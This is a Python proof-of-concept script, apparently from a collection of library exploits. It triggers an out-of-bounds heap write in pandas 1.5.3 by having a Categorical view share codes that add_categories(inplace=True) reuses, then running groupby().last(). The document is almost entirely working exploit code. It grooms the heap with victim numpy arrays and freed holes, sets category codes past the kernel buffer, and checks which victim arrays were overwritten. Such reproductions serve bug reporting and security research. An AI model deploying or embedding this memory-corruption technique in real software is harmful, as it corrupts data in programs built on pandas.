# source: pandas 1.5.3 Categorical views share codes (_mixins.py), add_categories(inplace=True) reuses them; groupby kernels in _libs/groupby.pyx index outputs by labels unchecked
# family: shared Categorical codes -> groupby kernel out-of-bounds write (entry point: r = pd.DataFrame({"k": peek, "v": s}, copy=False).groupby("k")["v"].last())
# goal: writes 4242.0/sums and counters into other numpy arrays (victim arrays change)
import numpy as np
import pandas as pd

n = 130                            # int16 codes; kernel buffers are n*8 = 1040 bytes
cat = pd.Categorical([0] * 8, categories=list(range(n)))
peek = cat[:]
victims = [np.zeros(n) for _ in range(200)]
for k in range(180, 100, -2):
    victims[k] = None              # holes between live victims
cat.add_categories(list(range(n, n + 10)), inplace=True)
cat[:] = [n + 2] * 8               # one chunk (1056 bytes = 132 words) past a buffer
s = pd.Series([4242.0] * 8)
r = pd.DataFrame({"k": peek, "v": s}, copy=False).groupby("k")["v"].last()
print("groups:", len(r), "non-null:", int(r.notna().sum()))
changed = [(k, v[:2].tolist()) for k, v in enumerate(victims) if v is not None and v.any()]
print("victim arrays written by the kernel:", changed)
